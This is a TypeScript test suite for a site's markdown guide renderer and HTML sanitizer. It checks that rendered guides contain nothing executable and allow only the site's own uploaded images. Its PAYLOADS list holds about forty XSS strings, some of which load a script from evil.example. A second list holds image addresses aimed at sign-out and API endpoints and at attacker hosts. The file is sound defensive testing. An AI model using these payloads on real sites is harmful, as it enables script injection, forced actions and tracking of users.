import { Parser } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { refusedImages, renderGuide, sanitizeGuideHtml } from './render'
import { STARTING_GUIDES } from './starting-guides'

const SAFE_TAGS = new Set([
  ...['h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'ul', 'ol', 'li', 'a', 'strong', 'em', 's', 'code', 'pre'],
  ...['blockquote', 'hr', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'img'],
])
const SAFE_ATTRIBUTES = new Set(['href', 'rel', 'src', 'alt', 'title', 'id', 'style', 'start'])

/**
 * What a browser could run in this HTML, read with a real HTML parser (the one sanitize-html uses):
 * a tag off the allow-list, an attribute off it (event handlers), a URL that is not http(s) or the
 * site's, a style that is not text alignment.
 */
function executable(html: string): string[] {
  const found: string[] = []
  const parser = new Parser(
    {
      onopentag(tag, attributes) {
        if (!SAFE_TAGS.has(tag)) found.push(`tag ${tag}`)
        for (const [name, value] of Object.entries(attributes)) {
          if (!SAFE_ATTRIBUTES.has(name)) found.push(`attribute ${name}`)
          if (name === 'href' && !/^(?:https?:\/\/|\/(?![/\\])|#)/i.test(value)) found.push(`href ${value}`)
          if (name === 'src' && !/^\/uploads\/(?:items|avatars)\/[^?#]+\.webp$/.test(value))
            found.push(`src ${value}`)
          if (name === 'style' && !/^text-align:(?:left|right|center)$/.test(value))
            found.push(`style ${value}`)
        }
      },
    },
    { decodeEntities: true },
  )
  parser.end(html)
  return found
}

/** Pictures the site serves from its uploads: an item's image (value-ops) and an avatar (accounts). */
const ITEM_IMAGE = '/uploads/items/blox-fruits/kitsune-0123456789ab-256.webp'
const AVATAR = '/uploads/avatars/3f2a-b9c1-77de.webp'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/ok.png" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width: expression(alert(1))">x</p>',
  '<body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '"><img src=x onerror=alert(1)>',
  '<<script>script>alert(1)<</script>/script>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example/phish)',
  '[x](/\\\\evil.example/phish)',
  '<a href="/\\evil.example">x</a>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/track.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<javascript:alert(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '[x]: javascript:alert(1)\n\n[click][x]',
  '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
]

describe('guide renderer: nothing executable', () => {
  it.each(PAYLOADS)('%s', (payload) => {
    const { html } = renderGuide(`Some text.\n\n${payload}\n\nMore text.`)
    expect(executable(html), html).toEqual([])
    // The same payload as raw HTML straight into the sanitizer (markdown-it shows tags as text anyway).
    expect(executable(sanitizeGuideHtml(payload)), payload).toEqual([])
  })

  it('shows a typed tag as text, never as a tag', () => {
    expect(renderGuide('<script>alert(1)</script>').html).toBe(
      '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n',
    )
  })

  it('drops links that are not http(s) or on the site, keeping their text', () => {
    const { html } = renderGuide(
      '[bad](javascript:alert(1)) and [ftp](ftp://x.example) and [ok](/values-and-wfl)',
    )
    expect(executable(html)).toEqual([])
    expect(html).not.toMatch(/<a href="(?:javascript|ftp)/i)
    expect(html).toContain('<a href="/values-and-wfl" rel="nofollow noopener">ok</a>')
  })
})

describe('guide renderer: what it keeps', () => {
  it('renders headings with ids, lists, emphasis, code, quotes, tables and the site images', () => {
    const { html, headings, summary } = renderGuide(
      [
        '# Top title',
        'The **first** paragraph, with [a link](https://example.com/page).',
        '## Give-first scams',
        '### Give-first scams',
        '- one\n- two',
        '1. a\n2. b',
        '> quoted *text*',
        '`code` and\n\n```\nblock\n```',
        '---',
        '| A | B |\n| :-- | --: |\n| 1 | 2 |',
        `![A seed](${ITEM_IMAGE})`,
      ].join('\n\n'),
    )
    expect(headings).toEqual([
      { id: 'top-title', text: 'Top title', level: 2 },
      { id: 'give-first-scams', text: 'Give-first scams', level: 2 },
      { id: 'give-first-scams-2', text: 'Give-first scams', level: 3 },
    ])
    expect(html).toContain('<h2 id="top-title">Top title</h2>')
    expect(html).toContain('<h3 id="give-first-scams-2">')
    expect(html).toContain('<a href="https://example.com/page" rel="nofollow noopener">a link</a>')
    expect(html).toContain('<strong>first</strong>')
    for (const tag of ['<ul>', '<ol>', '<blockquote>', '<em>', '<code>', '<pre>', '<hr />', '<table>'])
      expect(html).toContain(tag)
    expect(html).toContain('<td style="text-align:right">2</td>')
    expect(html).toContain(`<img src="${ITEM_IMAGE}" alt="A seed" />`)
    expect(html).not.toContain('target=')
    expect(summary).toBe('The first paragraph, with a link.')
  })

  it('renders the starting guides with their headings and no link off the allow-list', () => {
    for (const guide of STARTING_GUIDES) {
      const { html, headings, summary } = renderGuide(guide.body)
      expect(headings.length, guide.slug).toBeGreaterThan(2)
      expect(summary.length, guide.slug).toBeGreaterThan(20)
      expect(executable(html), guide.slug).toEqual([])
    }
  })
})

describe("guide images: the site's uploaded pictures only", () => {
  /** Addresses every reader's browser would fetch with their cookies: a referral link, the API, other hosts. */
  const REFUSED = [
    '/r/attacker',
    '/api/auth/sign-out',
    '/api/favorites/blox-fruits/kitsune',
    '//evil.example/x.png',
    'https://evil.example/x.png',
    'data:image/png;base64,iVBORw0KGgo=',
    '/uploads/items/blox-fruits/../../r/attacker',
    '/uploads/avatars/a.webp?ref=attacker',
    '/uploads/evidence/1.webp',
  ]

  it.each(REFUSED)('drops ![x](%s) and names it as refused', (src) => {
    const { html } = renderGuide(`Before.\n\n![x](${src})\n\nAfter.`)
    expect(html).not.toContain('<img')
    expect(executable(html)).toEqual([])
    expect(refusedImages(`Before.\n\n![x](${src} "t")\n\nAfter.`)).toEqual([src])
    expect(sanitizeGuideHtml(`<p><img src="${src}" alt="x" /></p>`)).not.toContain('<img')
  })

  it('finds images anywhere: by reference, in a link, a table or a list', () => {
    const body = [
      '[![in a link](/r/a)](/values-and-wfl)',
      '| a |\n| - |\n| ![cell](/r/b) |',
      '- ![listed](/r/c)',
      `![fine](${ITEM_IMAGE}) ![ref][shot]`,
      '[shot]: /r/d',
    ].join('\n\n')
    expect(refusedImages(body)).toEqual(['/r/a', '/r/b', '/r/c', '/r/d'])
  })

  it('keeps an item image and an avatar the site serves, and refuses neither', () => {
    const body = `![Kitsune](${ITEM_IMAGE} "The fruit")\n\n![Our middleman](${AVATAR})`
    expect(refusedImages(body)).toEqual([])
    const { html } = renderGuide(body)
    expect(html).toContain(`<img src="${ITEM_IMAGE}" alt="Kitsune" title="The fruit" />`)
    expect(html).toContain(`<img src="${AVATAR}" alt="Our middleman" />`)
  })
})
